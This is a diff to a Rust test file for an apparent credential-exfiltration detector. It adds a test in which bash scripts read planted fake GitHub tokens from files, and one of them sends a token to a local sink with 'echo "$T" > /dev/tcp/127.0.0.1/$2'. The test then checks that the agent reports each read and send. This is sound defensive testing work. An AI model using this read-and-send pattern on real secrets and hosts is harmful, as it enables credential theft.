@@ -3,13 +3,13 @@
 use super::{count, goes_to, sent};
 use crate::{
     agent::Agent,
-    command::sh,
+    command::{act, sh},
     events::{Ask as _, list, of_kind},
     machine::{Scratch, patience, turn, wait_for},
     plant,
     server::Sink,
 };
-use std::collections::BTreeSet;
+use std::{collections::BTreeSet, path::Path};
 
 /// The Codecov uploader's act: a whole environment posted in clear text.
 pub fn environment_posted_in_clear() {
@@ -169,6 +169,61 @@ pub fn read_file_sent_by_the_reader() {
     let text = sent[0].brief();
     assert_eq!(sent[0].grade(), "observed", "{text}");
     assert!(sent[0].shows(&planted), "{}", sent[0].brief());
-    assert_eq!(std::path::Path::new(sent[0].path()), file, "{text}");
+    assert_eq!(Path::new(sent[0].path()), file, "{text}");
     goes_to(&sent[0], &["127.0.0.1"], sink.port);
+}
+
+/// A file that nobody named, read for the first time by a process that is another program, or has a child that sends,
+/// right afterwards: the read is the reader's, and what the child sends is seen.
+pub fn found_in_a_file_and_used_at_once() {
+    let _turn = turn();
+    let scratch = Scratch::new();
+    let sink = Sink::silent();
+    let place = scratch.make("srv");
+    let mut tokens = Vec::new();
+    for n in 0..6 {
+        let token = plant::github();
+        // No name that a rule knows.
+        let file = place.join(format!("notes-{n}.txt"));
+        std::fs::write(&file, format!("{}\n", token.value)).unwrap();
+        tokens.push((token, file));
+    }
+    let agent = Agent::start(&scratch);
+    let bash = |script: &str, file: &Path| {
+        act("bash")
+            .args(["-c", script, "bash"])
+            .arg(file)
+            .arg(sink.port.to_string())
+            .run()
+            .ok()
+    };
+    for (_, file) in &tokens[..3] {
+        let done = bash("read -r T < \"$1\"; exec sleep 0.2", file);
+        let read = agent.expect("the read", done.pid, |e| {
+            e.is("credential_read") && Path::new(e.path()) == file
+        });
+        let process = read.process.as_ref().unwrap();
+        assert_eq!(process.comm, "bash", "{}", read.brief());
+    }
+    for (token, file) in &tokens[3..] {
+        let script = "read -r T < \"$1\"; (echo \"$T\" > /dev/tcp/127.0.0.1/$2); sleep 0.3";
+        let done = bash(script, file);
+        assert!(sink.has(&token.value));
+        let sent = agent.expect("the send", done.pid, |e| {
+            e.is("credential_sent") && e.in_tree(done.pid) && e.grade() == "observed"
+        });
+        assert_eq!(sent.credential_kind(), "github-token", "{}", sent.brief());
+        goes_to(&sent, &["127.0.0.1"], sink.port);
+    }
+    agent.settle();
+    // And nobody else is said to have opened them.
+    for (_, file) in &tokens {
+        let file = file.to_str().unwrap();
+        let opened: Vec<_> = agent
+            .events()
+            .into_iter()
+            .filter(|e| e.is("credential_opened") && e.path() == file)
+            .collect();
+        count(&opened, 0, "opens");
+    }
 }
